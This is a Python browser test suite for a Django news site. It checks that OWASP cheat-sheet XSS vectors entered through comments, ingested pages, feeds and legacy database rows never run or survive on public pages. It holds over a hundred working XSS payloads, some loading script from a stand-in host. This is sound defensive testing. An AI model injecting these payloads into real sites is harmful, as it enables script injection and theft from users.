"""Script never runs: the OWASP XSS Filter Evasion Cheat Sheet's vectors, entered through every door
readers and outlets have, then every public page opened in chromium.

The doors: the comment form (text, name and website, posted in the browser, then approved), saved
pages and a WARC archive stored by ``newsdesk ingest`` (bodies, titles, authors, captions, the
lead image), an outlet's feed polled over HTTP (titles, authors, bodies, the source's name and
category), and comments and an article row written straight to the database, as an older
version or an import might have left them.

Each vector calls a hook when it runs (alert, confirm, prompt, print, open, string timers, setting
``window.__xss`` or ``document.title``, or loading a script named xss.js). The page's
Content-Security-Policy would stop inline script on its own; the browser here ignores it, so
what is checked is the layer that must hold by itself: escaping and sanitizing. Every page is
then searched for markup that could run later: event-handler attributes, script URLs, frames,
objects, base and refresh elements.
"""

from __future__ import annotations

import io
from html import escape
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from django.db import connection
from django.core.management import call_command
from django.utils import timezone

from newsdesk.ingest import services
from newsdesk.site.articles.models import Article, Category
from newsdesk.site.comments import actions
from newsdesk.site.comments.models import Comment
from newsdesk.site.comments.text import normalise
from tests.site.outlet import Outlet, prose, story

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# <script>alert(1)</script>, and an SVG document whose onload calls alert, base64-encoded.
SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
SVG_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

# The cheat sheet's vectors, with its alert('XSS') turned into calls the page's hooks notice.
VECTORS = (
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<ScRiPt>confirm(1)</sCrIpT>",
    '<SCRIPT SRC="/xss.js"></SCRIPT>',
    "<SCRIPT SRC=//xss.invalid/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="/xss.js"></SCRIPT>',
    "<<SCRIPT>alert(2);//<</SCRIPT>",
    "<SCRIPT SRC=/xss.js?< B >",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    '<SCRIPT a=">" SRC="/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="/xss.js"></SCRIPT>',
    "<SCRIPT a=\">\" '' SRC=\"/xss.js\"></SCRIPT>",
    '<SCRIPT "a=\'>\'" SRC="/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="/xss.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="/xss.js"></SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "</TITLE><SCRIPT>alert(3);</SCRIPT>",
    '"><script>alert(4)</script>',
    "'><script>prompt(5)</script>",
    "</script><script>alert(6)</script>",
    "<!--<script>alert(7)//-->",
    "\";alert(8);//",
    "<svg><script>alert(9)</script></svg>",
    "<svg><script href=/xss.js /></svg>",
    "<xss onafterscriptexecute=alert(10)><script>1</script>",
    "<template><script>alert(11)</script></template>",
    "+ADw-script+AD4-alert(12)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(13)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(14)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(15)</scr\x00ipt>",
    "<!--[if gte IE 4]><SCRIPT>alert(16);</SCRIPT><![endif]-->",
    "<? echo('<SCR)';echo('IPT>alert(17)</SCRIPT>'); ?>",
    '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=/xss.js></SCRIPT>\'"-->',
    # Images and their handlers.
    '<IMG SRC="javascript:alert(18);">',
    "<IMG SRC=javascript:alert(19)>",
    "<IMG SRC=JaVaScRiPt:alert(20)>",
    "<IMG SRC=`javascript:alert(21)`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    '<IMG SRC=# onmouseover="alert(22)">',
    '<IMG SRC= onmouseover="alert(23)">',
    '<IMG onmouseover="alert(24)">',
    '<IMG SRC=/ onerror="alert(25)"></img>',
    "<img src=x onerror=alert(26)>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror=document.title=27>",
    "<img src=x:alert(alt) onerror=eval(src) alt=28>",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000050&#0000057&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#51;&#48;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000051&#0000049&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28"
    "&#x33&#x32&#x29>",
    '<IMG SRC="jav\tascript:alert(33);">',
    '<IMG SRC="jav&#x09;ascript:alert(34);">',
    '<IMG SRC="jav&#x0A;ascript:alert(35);">',
    '<IMG SRC="jav&#x0D;ascript:alert(36);">',
    '<IMG SRC="java\x00script:alert(37);">',
    '<IMG SRC=" &#14;  javascript:alert(38);">',
    '<IMG SRC="javascript:alert(39)"',
    "<IMG DYNSRC=\"javascript:alert(40)\">",
    "<IMG LOWSRC=\"javascript:alert(41)\">",
    "<IMG SRC='vbscript:msgbox(42)'>",
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(43))">',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(44);">',
    '<img src="data:image/svg+xml,<svg onload=alert(45)>">',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(46)"></B></I></XML>',
    '<img src="x` `<script>alert(47)</script>"` `>',
    # Links and other URLs.
    '<A HREF="javascript:alert(48)">link</A>',
    '<A HREF="JaVaScRiPt:alert(49)">link</A>',
    '<a href="jav&#x09;ascript:alert(50)">link</a>',
    '<a href="java\tscript:alert(51)">link</a>',
    '<a href="&#x6A;avascript:alert(52)">link</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#53&#51&#41">x</a>',
    '<a href="  javascript:alert(54)">link</a>',
    '<a href="\x0bjavascript:alert(55)">link</a>',
    '<a href="javascript&colon;alert(56)">link</a>',
    '<a href="java&Tab;script:alert(57)">link</a>',
    '<a href="javas\x00cript:alert(58)">link</a>',
    f'<a href="data:text/html;base64,{SCRIPT_B64}">link</a>',
    '<a href="data:text/html,<script>alert(59)</script>">link</a>',
    '<a href="vbscript:msgbox(60)">link</a>',
    "<A HREF=\"javascript:document.location='http://xss.invalid/'\">XSS</A>",
    '<a onmouseover="alert(61)">xxs link</a>',
    '<a href="https://news.example/" onclick="alert(62)">a real link</a>',
    '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alert(63)"></map><img usemap=#m src=x>',
    '<LINK REL="stylesheet" HREF="javascript:alert(64);">',
    f'<link rel=import href="data:text/html;base64,{SCRIPT_B64}">',
    '<BASE HREF="javascript:alert(65);//">',
    # Frames, objects, embeds.
    '<IFRAME SRC="javascript:alert(66);"></IFRAME>',
    '<IFRAME SRC=# onmouseover="alert(67)"></IFRAME>',
    "<iframe src=http://xss.invalid/xss.html <",
    '<iframe srcdoc="&lt;script&gt;parent.alert(68)&lt;/script&gt;"></iframe>',
    f'<iframe src="data:text/html;base64,{SCRIPT_B64}"></iframe>',
    '<FRAMESET><FRAME SRC="javascript:alert(69);"></FRAMESET>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(70)"></object>',
    f'<object data="data:text/html;base64,{SCRIPT_B64}"></object>',
    '<embed src="javascript:alert(71)">',
    f'<EMBED SRC="data:image/svg+xml;base64,{SVG_B64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    # Forms.
    '<form action="javascript:alert(72)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(73)">X</button></form>',
    '<isindex action="javascript:alert(74)" type=image>',
    "<input onfocus=alert(75) autofocus>",
    "<select onfocus=alert(76) autofocus>",
    "<textarea onfocus=alert(77) autofocus></textarea>",
    "<keygen onfocus=alert(78) autofocus>",
    # SVG and MathML.
    "<svg/onload=alert(79)>",
    "<svg onload=alert(80)//",
    '<svg><a xlink:href="javascript:alert(81)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><a href="javascript:alert(82)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(83) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(84)"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,' + SVG_B64 + '#x"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(85)">CLICKME</maction></math>',
    # Event handlers on other elements.
    "<BODY ONLOAD=alert(86)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(87)>",
    "<body onpageshow=alert(88)>",
    "<details open ontoggle=alert(89)>",
    '<video><source onerror="alert(90)"></video>',
    "<audio src=x onerror=alert(91)>",
    "<marquee onstart=alert(92)>",
    "<div onpointerover=alert(93)>hover</div>",
    "<x contenteditable onblur=alert(94)>lose focus!</x>",
    '<BR SIZE="&{alert(95)}">',
    '<BGSOUND SRC="javascript:alert(96);">',
    # Styles.
    '<STYLE>li {list-style-image: url("javascript:alert(97)");}</STYLE><UL><LI>XSS</br>',
    "<STYLE>@import'javascript:alert(98)';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.invalid/xssmoz.xml#xss")}</STYLE>',
    '<STYLE TYPE="text/javascript">alert(99);</STYLE>',
    '<STYLE>.XSS{background-image:url("javascript:alert(100)");}</STYLE><A CLASS=XSS></A>',
    '<STYLE type="text/css">BODY{background:url("javascript:alert(101)")}</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<DIV STYLE="background-image: url(javascript:alert(102))">',
    '<DIV STYLE="width: expression(alert(103));">',
    '<TABLE BACKGROUND="javascript:alert(104)">',
    '<TABLE><TD BACKGROUND="javascript:alert(105)">',
    '<BODY BACKGROUND="javascript:alert(106)">',
    '<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.invalid/xss.htc">'
    "<xss:xss>XSS</xss:xss></HTML>",
    # Meta refresh.
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(107);">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{SCRIPT_B64}">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(108);">',
    '<META HTTP-EQUIV="Link" Content="<http://xss.invalid/xss.css>; REL=stylesheet">',
    # Parser differentials: markup that changes meaning once re-parsed, and unclosed elements
    # that swallow what follows (last, so in pages they hide nothing else).
    '<noscript><p title="</noscript><img src=x onerror=alert(109)>">',
    '<style><img src="</style><img src=x onerror=alert(110)//">',
    '<title><img src="</title><img src=x onerror=alert(111)>">',
    '<textarea><img src="</textarea><img src=x onerror=alert(112)>">',
    "<SCRIPT>alert(113)",
    "<xmp><img src=x onerror=alert(114)>",
    "<plaintext><img src=x onerror=alert(115)>",
)

# Installed in every frame before the page's own markup runs. Each call is reported at once
# through a binding, so it is heard even when the page then navigates away. eval stays as it is:
# Playwright reads pages through it, and code that eval runs reaches one of the hooks.
HOOKS = """(() => {
  const record = (sink, args) => {
    const call = sink + '(' + Array.from(args).map(String).join(', ').slice(0, 80) + ')';
    try { window.__xssReport(call); } catch (error) { console.error('unreported ' + call); }
  };
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
    window[name] = function () { record(name, arguments); };
  }
  for (const name of ['setTimeout', 'setInterval']) {
    const original = window[name];
    window[name] = function (code, ...rest) {
      if (typeof code === 'string') { record(name, [code]); return 0; }
      return original.call(this, code, ...rest);
    };
  }
  Object.defineProperty(window, '__xss', {set(value) { record('window.__xss=', [value]); }, get() {}});
  const title = Object.getOwnPropertyDescriptor(Document.prototype, 'title');
  Object.defineProperty(Document.prototype, 'title', {
    get() { return title.get.call(this); },
    set(value) { record('document.title=', [value]); },
  });
})();"""

# Markup that runs script later (a click, a hover, a form sent) or changes where the page goes.
# Returns one line per finding; newsdesk's own templates produce none of these.
DOM_FINDINGS = r"""() => {
  const findings = [];
  const scheme = /^(javascript|vbscript|data|livescript):/;
  // As the URL parser reads an address: control characters and spaces around it dropped, tabs and
  // newlines dropped anywhere, the scheme in any case; and as the browser itself resolves it.
  const normal = value => value.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '').replace(/[\t\n\r]/g, '')
    .toLowerCase();
  const resolved = value => { try { return new URL(value, document.baseURI).protocol; } catch (error) { return ''; } };
  const scripted = value => scheme.test(normal(value)) || scheme.test(resolved(value.trim()));
  const urlAttributes = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'lowsrc',
    'dynsrc', 'srcset', 'codebase', 'cite', 'longdesc', 'ping', 'manifest', 'icon', 'archive', 'profile', 'usemap',
    'to', 'from', 'values', 'xlink:href']);
  const show = element => element.outerHTML.slice(0, 160);
  // newsdesk's maps draw into [data-map] with inline styles and SVG: its own script, not content.
  const drawn = element => element.closest('[data-map]') !== null;
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) findings.push(`handler ${name}: ${show(element)}`);
      else if (name === 'srcdoc' || (name === 'style' && !drawn(element)))
        findings.push(`${name} attribute: ${show(element)}`);
      else if ((urlAttributes.has(name) || name.endsWith(':href')) && scripted(attribute.value))
        findings.push(`script URL in ${name}: ${show(element)}`);
    }
  }
  const foreign = 'iframe, frame, frameset, object, embed, applet, base, meta[http-equiv], style, svg, math, ' +
                  'body link, template, noscript, isindex, xmp, plaintext';
  for (const element of document.querySelectorAll(foreign)) {
    if (!drawn(element)) findings.push(`element: ${show(element)}`);
  }
  const ownScript = element => element.src && new URL(element.src).origin === location.origin &&
    new URL(element.src).pathname.startsWith('/static/') && !element.textContent.trim();
  for (const element of document.querySelectorAll('script')) {
    if (ownScript(element)) continue;
    if (element.type !== 'application/ld+json' || element.parentElement !== document.head) {
      findings.push(`script element: ${show(element)}`);
      continue;
    }
    try { JSON.parse(element.textContent); } catch (error) { findings.push(`broken JSON-LD: ${show(element)}`); }
  }
  return findings;
}"""

# What a script that ran leaves behind in the console, apart from the browser's own notes about
# resources that failed to load (the vectors point at images that do not exist).
IGNORED_CONSOLE = ("Failed to load resource",)
PAGE_SETTLE_MS = 150  # for handlers that fire just after load: autofocus, animations, media errors
READING_TIME_MS = 1300  # longer than the one second the comment limits ask readers to wait


@pytest.fixture
def comment_limits(settings):
    """Room for the vectors: many links and characters in one comment, many comments from 127.0.0.1."""
    settings.NEWSDESK_COMMENT_LIMITS = {"min_seconds": 1, "max_links": 1000, "max_chars": 20000,
                                        "rate_count": 1000}
    return settings


def chunks(items, size: int) -> list:
    return [items[start:start + size] for start in range(0, len(items), size)]


def without_controls(text: str) -> str:
    """``text`` for places that cannot hold control characters (XML, form fields)."""
    return normalise(text).replace("\x00", "")


def quoting_paragraphs(vectors) -> list[str]:
    """Paragraphs that quote the vectors as text, as a report about them would."""
    return [f"The filter was tested with the sample {escape(without_controls(v))} and the council said so."
            for v in vectors]


def raw_paragraphs(vectors) -> list[str]:
    """Paragraphs with the vectors as markup, among enough words to count as article text."""
    return [f"Residents heard the ferry report at the harbour meeting {v} before the vote on Tuesday."
            for v in vectors]


# -- doors --------------------------------------------------------------------------------------

def follow_hostile_outlet(server, fetcher) -> int:
    """An outlet whose feed and pages carry the vectors, followed and polled; returns new articles."""
    outlet = Outlet(server)
    for n, group in enumerate(chunks(VECTORS, 30), start=1):
        title = " ".join(without_controls(v) for v in group[:6])[:480]
        outlet.add(story(n, title=title, author=without_controls(group[-1]), feed_content=n % 2 == 0,
                         paragraphs=prose(f"hostile{n}") + raw_paragraphs(map(without_controls, group))
                         + quoting_paragraphs(group)))
    source = services.add_source(outlet.feed_url, fetcher, allow_private=True,
                                 name='Gazette "><svg onload=alert(201)>', category="<img src=x onerror=alert(202)>")
    result = services.poll_source(source.pk, fetcher)
    assert result.ok and result.failed == 0, result.error
    return result.new


def saved_page(n: int, group) -> str:
    """A saved article page with the vectors in its title, author, caption, lead image and body."""
    plain = [without_controls(v) for v in group]
    title = escape(" ".join(plain[:5])[:480])
    author, alt, caption = (escape(plain[k % len(plain)]) for k in (5, 6, 7))
    marked_up_caption = group[8 % len(group)]
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>
<link rel="canonical" href="https://saved.example/news/hostile-{n}">
<meta property="og:title" content="{title}"><meta name="author" content="{author}">
<meta property="og:image" content="javascript:alert({300 + n})">
<meta property="article:published_time" content="2026-11-{10 + n}T09:00:00+00:00"></head><body>
<main><article><h1>{title}</h1><p class="byline">By <span class="author">{author}</span></p>
<div class="entry-content">{"".join(f"<p>{p}</p>" for p in prose(f"saved{n}"))}
<figure><img src="https://saved.example/images/{n}.jpg" alt="{alt}">
<figcaption>{caption}</figcaption></figure>
<figure><img src="https://saved.example/images/{n}b.jpg"><figcaption>{marked_up_caption}</figcaption></figure>
{"".join(f"<p>{p}</p>" for p in quoting_paragraphs(group) + raw_paragraphs(group))}
</div></article></main></body></html>"""


def ingest_saved_pages(tmp_path: Path) -> str:
    """Saved pages and a WARC archive of more, stored by ``newsdesk ingest``; returns its summary."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    groups = chunks(VECTORS, 24)
    paths = []
    for n, group in enumerate(groups[:3], start=1):
        path = tmp_path / f"hostile-{n}.html"
        path.write_text(saved_page(n, group), encoding="utf-8")
        paths.append(str(path))
    archive = tmp_path / "hostile.warc.gz"
    with archive.open("wb") as stream:
        writer = WARCWriter(stream, gzip=True)
        for n, group in enumerate(groups[3:], start=len(paths) + 1):
            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
            body = io.BytesIO(saved_page(n, group).encode())
            writer.write_record(writer.create_warc_record(f"https://saved.example/news/hostile-{n}", "response",
                                                          payload=body, http_headers=headers))
    paths.append(str(archive))
    out = io.StringIO()
    call_command("ingest", *paths, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def store_legacy_rows() -> Article:
    """An article row and comments written straight to the database, unsanitized, as an import
    or an older version might have: the site must clean them when it renders them. Returns a
    plain article for readers' letters, which the comments go on."""
    source = services.find_source('Gazette "><svg onload=alert(201)>')
    # PostgreSQL's text columns cannot hold a NUL character, so no row there has one.
    vectors = [v.replace("\x00", "") for v in VECTORS] if connection.vendor == "postgresql" else VECTORS
    category = Category.objects.create(name='News </script><script>alert(203)</script>', slug="legacy")
    Article.objects.create(
        source=source, category=category, title=" ".join(vectors[:4]), url="https://legacy.example/news/1",
        canonical_url="https://legacy.example/news/1", authors=list(vectors[4:8]), published_at=timezone.now(),
        language='en"><script>alert(204)</script>'[:16], description=" ".join(vectors[8:12]),
        text="\n\n".join(vectors), html="".join(f"<p>{v}</p>" for v in vectors),
        lead_image_url="https://legacy.example/images/1.jpg", lead_image_caption=vectors[12],
        images=[{"src": "https://legacy.example/images/1.jpg", "alt": vectors[13], "caption": vectors[12]}],
        content_hash="legacy-hostile-1")
    letters = Article.objects.create(
        source=source, category=category, title="Letters to the editor", url="https://legacy.example/letters",
        canonical_url="https://legacy.example/letters", authors=["Ada Reporter"], published_at=timezone.now(),
        language="en", text="\n\n".join(prose("letters")), html="".join(f"<p>{p}</p>" for p in prose("letters")),
        content_hash="legacy-letters")
    websites = ("javascript:alert(205)", " JaVaScRiPt:alert(206)", "java\tscript:alert(207)",
                "\x01javascript:alert(208)", f"data:text/html;base64,{SCRIPT_B64}", "vbscript:msgbox(209)",
                "//xss.invalid/", 'https://ok.example/"onclick="alert(210)')
    for n, website in enumerate(websites):
        Comment.objects.create(article=letters, name=f"Imported reader {n}", email=f"imported{n}@mail.example",
                               website=website, text=f"Imported comment {n}.", status=Comment.APPROVED,
                               fingerprint=f"legacy-hostile-{n}")
    return letters


def post_comments_in_the_browser(context, witness: Witness, article_url: str) -> list[str]:
    """The vectors posted through the comment form, a few comments at once; returns the findings
    on the pages the form answered with, one of them a refusal that shows what was typed."""
    groups = chunks(VECTORS, 30)
    # Addresses the form accepts (http, with a host) that try to break out of the href.
    websites = ('https://reader.example/"><script>alert(211)</script>',
                "https://reader.example/'onmouseover='alert(212)",
                "http://reader.example/?q=<svg/onload=alert(213)>", "https://reader.example/#javascript:alert(214)")
    forms = []
    for n, group in enumerate(groups):
        page = witness.watch(context.new_page())
        page.goto(article_url)
        page.fill("#comment", "\n\n".join(map(without_controls, group)))  # the form refuses NUL
        page.fill("#author", without_controls(group[n % len(group)])[:100])
        page.fill("#email", f"reader{n}@mail.example")
        page.fill("#url", websites[n % len(websites)])
        forms.append(page)
    refused = witness.watch(context.new_page())
    refused.goto(article_url)
    refused.fill("#comment", "\n".join(map(without_controls, VECTORS[:20])))
    refused.fill("#author", "<script>alert(215)</script>")
    refused.fill("#email", "refused@mail.example")
    refused.fill("#url", "javascript:alert(216)")
    # One wait covers every form: each was stamped when its page loaded.
    forms[-1].wait_for_timeout(READING_TIME_MS)
    for page in forms:
        page.get_by_role("button", name="Post Comment").click()
        page.wait_for_load_state()
        held = page.get_by_text("Your comment is awaiting moderation.")
        assert held.is_visible(), page.locator(".respond").inner_text()
    refused.get_by_role("button", name="Post Comment").click()
    refused.wait_for_load_state()
    assert refused.locator("#url-error").is_visible()
    assert refused.input_value("#url") == "javascript:alert(216)"
    findings = witness.take() + refused.evaluate(DOM_FINDINGS)
    for page in forms + [refused]:
        page.close()
    return [f"comment form: {finding}" for finding in findings]


# -- looking at pages ---------------------------------------------------------------------------

class Witness:
    """Hears every hook called in a browser context, and every dialog, uncaught error and console
    complaint of the tabs it watches."""

    def __init__(self, context):
        self.events: list[str] = []
        context.expose_binding("__xssReport", lambda source, call: self.events.append(
            f"ran in {source['frame'].url}: {call}"))
        context.add_init_script(HOOKS)

    def watch(self, page):
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.events.append(f"page error: {error}"))
        page.on("console", self._console)
        return page

    def take(self) -> list[str]:
        """What was heard since the last call."""
        taken, self.events[:] = list(self.events), []
        return taken

    def _dialog(self, dialog) -> None:
        self.events.append(f"dialog {dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _console(self, message) -> None:
        if message.type in ("error", "warning") and not message.text.startswith(IGNORED_CONSOLE):
            self.events.append(f"console {message.type}: {message.text[:200]}")


def findings_on(page, witness: Witness, url: str) -> list[str]:
    """Everything that ran on ``url``, and every dangerous bit of markup left in it."""
    witness.take()
    response = page.goto(url, wait_until="load")
    assert response is not None and response.status < 500, (url, response and response.status)
    page.wait_for_timeout(PAGE_SETTLE_MS)
    found = witness.take()
    if page.url != response.url:
        found.append(f"navigated away to {page.url}")
    elif page.evaluate("document.contentType") == "text/html":
        found += page.evaluate(DOM_FINDINGS)
    return found


def public_urls(page, base_url: str, comments_on: Article) -> list[str]:
    """Every public page the stored vectors can reach: listings, articles, search, feeds, sitemaps."""
    articles = list(Article.objects.filter(is_published=True).select_related("source"))
    urls = ["/", "/latest/", "/latest/?page=2", "/robots.txt", "/feed/", "/feed/atom/", "/feed.json",
            "/nope/%3Cscript%3Ealert(401)%3C/script%3E/", f"{comments_on.get_absolute_url()}?replytocom="
            f"{Comment.objects.filter(article=comments_on, status=Comment.APPROVED).first().pk}"]
    urls += [a.get_absolute_url() for a in articles]
    for category in Category.objects.all():
        urls += [f"/category/{category.slug}/", f"/category/{category.slug}/feed/",
                 f"/category/{category.slug}/feed/atom/"]
    urls += [f"/source/{slug}/" for slug in {a.source.slug for a in articles}]
    queries = ["alert", "script onerror", '"><script>alert(402)</script>', "<svg/onload=alert(403)>",
               "javascript:alert(404)", "</title><img src=x onerror=alert(405)>"]
    urls += [f"/search/?q={quote(q)}" for q in queries]
    page.goto(f"{base_url}/sitemap.xml")
    sections = page.evaluate("() => Array.from(document.getElementsByTagName('loc'), e => e.textContent)")
    assert sections, "the sitemap index lists no sections"
    page.goto(f"{base_url}/")
    menu = page.evaluate("() => Array.from(document.querySelectorAll('nav.sections a'), a => a.href)")
    return list(dict.fromkeys([base_url + url for url in urls] + sections + menu))


def linked_from(page, selector: str) -> list[str]:
    """The addresses of the links ``selector`` finds on ``page``."""
    return page.evaluate("selector => Array.from(document.querySelectorAll(selector), a => a.href)", selector)


def serve_script_bait(context, base_url: str) -> None:
    """A script named xss.js, anywhere, calls a hook, so a script element that survived is seen to
    run; nothing leaves 127.0.0.1."""
    bait = "window.alert('xss.js loaded')"
    local = urlsplit(base_url).hostname

    def handle(route):
        url = urlsplit(route.request.url)
        if url.path.endswith("xss.js"):
            route.fulfill(status=200, content_type="text/javascript", body=bait)
        elif url.hostname == local:
            route.continue_()
        else:
            route.abort()

    context.route("**/*", handle)


def test_no_vector_runs_or_survives_on_any_public_page(live_server, browser, server, fetcher, tmp_path,
                                                       comment_limits):
    assert len(VECTORS) >= 60
    assert follow_hostile_outlet(server, fetcher) == len(chunks(VECTORS, 30))
    summary = ingest_saved_pages(tmp_path)
    assert f"{len(chunks(VECTORS, 24))} new" in summary and "0 failed" in summary, summary
    letters = store_legacy_rows()
    context = browser.new_context(bypass_csp=True, viewport={"width": 1280, "height": 900})
    witness = Witness(context)
    serve_script_bait(context, live_server.url)

    findings = post_comments_in_the_browser(context, witness, live_server.url + letters.get_absolute_url())
    posted = " ".join(Comment.objects.filter(status=Comment.PENDING).values_list("text", flat=True))
    assert [v for v in VECTORS if normalise(v).strip() not in posted] == []
    assert actions.approve(Comment.objects.filter(status=Comment.PENDING)) == len(chunks(VECTORS, 30))

    page = witness.watch(context.new_page())
    urls = public_urls(page, live_server.url, letters)
    for url in urls:
        findings += [f"{url}: {finding}" for finding in findings_on(page, witness, url)]
        # Pages about the people and places an article names, whose names came from its text.
        urls += [link for link in linked_from(page, ".entities a[href]") if link not in urls]
    assert findings == [], "\n".join(findings)
    assert len(urls) > 30
    # The vectors were on the pages, as text: the letters page shows each comment's text.
    page.goto(live_server.url + letters.get_absolute_url())
    shown = page.inner_text(".comment-list")
    assert "<script>alert(1)</script>" in shown and "<svg/onload=alert(79)>" in shown
